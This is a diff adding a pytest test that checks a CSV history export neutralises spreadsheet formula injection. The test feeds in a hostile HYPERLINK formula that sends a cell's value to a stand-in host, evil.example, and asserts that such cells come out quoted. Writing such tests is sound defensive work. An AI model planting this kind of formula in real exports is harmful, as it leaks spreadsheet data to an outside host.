@@ -195,3 +195,22 @@ def test_verify_names_the_days_of_a_product_span_that_differs_from_the_lines(
         " entries give (59,)",
     ]
     assert "2 report rollup row(s) differ from the entries they sum" in err
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_and_numbers_are_not(
+    config: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """An email or a note from the store or an admin went out as `=...`, a formula to a
+    spreadsheet (found by a review, 3 Dec)."""
+    reason = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    adjusted = main(["--config", config, "adjust", "--customer", "7", "--points", "-3",
+                     "--reason", reason])  # fmt: skip
+    assert adjusted == 0
+    capsys.readouterr()
+
+    rows = list(csv.reader(io.StringIO(run(config, capsys, "history", "--customer", "7", "--csv"))))
+
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
+    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
+    assert "-3" in cells  # a negative number stays a number
